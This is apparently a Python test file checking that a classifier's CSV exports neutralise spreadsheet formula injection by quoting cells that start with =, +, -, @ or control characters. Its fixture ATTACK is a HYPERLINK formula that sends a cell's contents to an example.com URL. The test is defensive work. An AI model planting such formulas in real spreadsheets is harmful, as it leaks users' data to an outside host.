"""CSV outputs open in a spreadsheet as data: no cell runs as a formula."""

from __future__ import annotations

import csv
import io

from fmstudio.core.classify.results import ItemResult, Prediction, results_to_csv
from fmstudio.core.classify.sort import Placement, manifest_csv
from fmstudio.core.spreadsheet import cell

ATTACK = '=HYPERLINK("http://example.com/?leak="&A1,"click")'


def test_a_pasted_formula_is_written_as_text() -> None:
    results = [
        ItemResult("pasted#1", (Prediction("=1+1", 0.9),), text=ATTACK),
        ItemResult("@report.txt", (Prediction("sports", 0.8),), text="A plain line."),
        ItemResult("+scores.txt", error="-empty file"),
    ]
    rows = list(csv.DictReader(io.StringIO(results_to_csv(results))))
    assert rows[0]["text"] == "'" + ATTACK and rows[0]["label"] == "'=1+1"
    assert rows[1]["path"] == "'@report.txt" and rows[1]["text"] == "A plain line."
    assert rows[2]["path"] == "'+scores.txt" and rows[2]["error"] == "'-empty file"
    assert rows[0]["score"] == "0.900000"  # numbers stay numbers
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not any(v.startswith(starts) for row in rows for v in row.values())


def test_a_sort_manifest_is_safe_and_plain_cells_are_untouched() -> None:
    placed = [Placement("=cmd.txt", "sports", 0.7, "sports", "out/sports/=cmd.txt")]
    (row,) = csv.DictReader(io.StringIO(manifest_csv(placed)))
    assert row["source"] == "'=cmd.txt" and row["destination"] == "out/sports/=cmd.txt"
    assert cell("photo.jpg") == "photo.jpg" and cell("") == ""
